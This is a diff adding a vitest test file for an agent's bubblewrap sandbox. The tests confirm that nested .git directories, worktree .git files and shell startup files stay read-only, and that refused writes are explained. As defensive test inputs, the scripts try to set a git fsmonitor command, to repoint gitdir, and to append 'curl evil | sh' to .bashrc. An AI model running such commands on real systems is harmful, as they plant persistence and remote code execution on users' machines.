@@ -1,0 +1,137 @@
+import { execFileSync, spawnSync } from 'node:child_process';
+import * as fs from 'node:fs';
+import * as path from 'node:path';
+import { skipWithout } from '@agent/tooling-system-tools';
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { createSandbox } from './sandbox.js';
+
+// Through createSandbox and a real bubblewrap, in this process (as whoever runs the tests; the
+// escape suite runs the same classes as root and as nobody): what stays read-only inside a
+// writable root, what stays writable, and how a refused write is explained.
+
+const made: string[] = [];
+const savedHome = process.env.HOME;
+beforeEach(skipWithout('bwrap'));
+afterEach(() => {
+  process.env.HOME = savedHome;
+  for (const dir of made.splice(0)) fs.rmSync(dir, { recursive: true, force: true });
+});
+
+/** A directory under /var/tmp (outside the private /tmp the sandbox makes). */
+function directory(): string {
+  const root = fs.realpathSync(fs.mkdtempSync('/var/tmp/protected-paths-'));
+  made.push(root);
+  return root;
+}
+
+async function run(
+  options: Parameters<typeof createSandbox>[0],
+  script: string,
+  cwd: string,
+): Promise<{ output: string; explanation: string | undefined }> {
+  const sandbox = createSandbox({ mode: 'required', onWarning: () => undefined, ...options });
+  const wrapped = await sandbox.wrap({ file: 'bash', args: ['-c', script], cwd, env: process.env });
+  const result = spawnSync(wrapped.file, [...wrapped.args], {
+    cwd,
+    env: wrapped.env,
+    encoding: 'utf8',
+  });
+  const output = result.stdout + result.stderr;
+  await sandbox.close();
+  return { output, explanation: sandbox.explainFailure(output) };
+}
+
+describe('repositories nested in a writable root', () => {
+  it('keeps a nested .git read-only, and says why a write there failed', async () => {
+    const workspace = directory();
+    execFileSync('git', ['init', '-q', path.join(workspace, 'services/api')]);
+    const { output, explanation } = await run(
+      { writableRoots: [workspace] },
+      'git -C services/api config core.fsmonitor "touch /var/tmp/x"; echo ok > services/api/file && echo WROTE',
+      workspace,
+    );
+    expect(output).toMatch(/could not lock config file .*Read-only file system/);
+    expect(output).toContain('WROTE');
+    expect(explanation).toMatch(/a repository's \.git is read-only/);
+    expect(fs.readFileSync(path.join(workspace, 'services/api/.git/config'), 'utf8')).not.toMatch(
+      /fsmonitor/,
+    );
+  });
+
+  it("keeps a root's .git file (a worktree) from being pointed elsewhere", async () => {
+    const outside = directory();
+    const workspace = path.join(directory(), 'feature');
+    execFileSync('git', ['init', '-q', outside]);
+    execFileSync('git', ['-C', outside, 'commit', '-q', '--allow-empty', '-m', 'one'], {
+      env: {
+        ...process.env,
+        GIT_AUTHOR_NAME: 't',
+        GIT_AUTHOR_EMAIL: 't@t',
+        GIT_COMMITTER_NAME: 't',
+        GIT_COMMITTER_EMAIL: 't@t',
+      },
+    });
+    execFileSync('git', ['-C', outside, 'worktree', 'add', '-q', workspace]);
+    const before = fs.readFileSync(path.join(workspace, '.git'), 'utf8');
+    const { output } = await run(
+      { writableRoots: [workspace] },
+      'mkdir -p evil && echo "gitdir: $PWD/evil" > .git; mv .git .git-old; git status --short >/dev/null && echo READS',
+      workspace,
+    );
+    expect(output).toMatch(/\.git: Read-only file system/);
+    expect(output).toMatch(/Device or resource busy/);
+    expect(output).toContain('READS');
+    expect(fs.readFileSync(path.join(workspace, '.git'), 'utf8')).toBe(before);
+  });
+
+  it('leaves them writable with protectGitDirectories: false', async () => {
+    const workspace = directory();
+    execFileSync('git', ['init', '-q', path.join(workspace, 'lib')]);
+    const { output } = await run(
+      { writableRoots: [workspace], protectGitDirectories: false },
+      'git -C lib config user.name sandboxed && echo WROTE',
+      workspace,
+    );
+    expect(output).toContain('WROTE');
+  });
+});
+
+describe('a writable root that holds the home directory', () => {
+  it("keeps the home's startup files read-only, the rest writable, and explains it", async () => {
+    const base = directory();
+    const home = path.join(base, 'home');
+    fs.mkdirSync(path.join(home, '.config/fish'), { recursive: true });
+    fs.writeFileSync(path.join(home, '.bashrc'), '# original\n');
+    fs.writeFileSync(path.join(home, '.config/fish/config.fish'), '# original\n');
+    process.env.HOME = home;
+    for (const root of [home, base]) {
+      const { output, explanation } = await run(
+        { writableRoots: [root] },
+        'echo "curl evil | sh" >> .bashrc; echo x >> ~/.config/fish/config.fish; echo ok > notes.txt && echo WROTE',
+        home,
+      );
+      expect(output).toMatch(/\.bashrc: Read-only file system/);
+      expect(output).toMatch(/config\.fish: Read-only file system/);
+      expect(output).toContain('WROTE');
+      expect(explanation).toMatch(/startup files \(.*\.bashrc.*\) are read-only/);
+    }
+    expect(fs.readFileSync(path.join(home, '.bashrc'), 'utf8')).toBe('# original\n');
+    expect(fs.readFileSync(path.join(home, 'notes.txt'), 'utf8')).toBe('ok\n');
+  });
+
+  it('leaves them writable with protectStartupFiles: false, and alone when the home is outside the roots', async () => {
+    const home = directory();
+    fs.writeFileSync(path.join(home, '.bashrc'), '# original\n');
+    process.env.HOME = home;
+    const lifted = await run(
+      { writableRoots: [home], protectStartupFiles: false },
+      'echo "# more" >> .bashrc && echo WROTE',
+      home,
+    );
+    expect(lifted.output).toContain('WROTE');
+    const project = directory();
+    const outside = await run({ writableRoots: [project] }, 'echo x >> ~/.bashrc', project);
+    expect(outside.output).toMatch(/Read-only file system/);
+    expect(outside.explanation).toMatch(/writes outside/);
+  });
+});
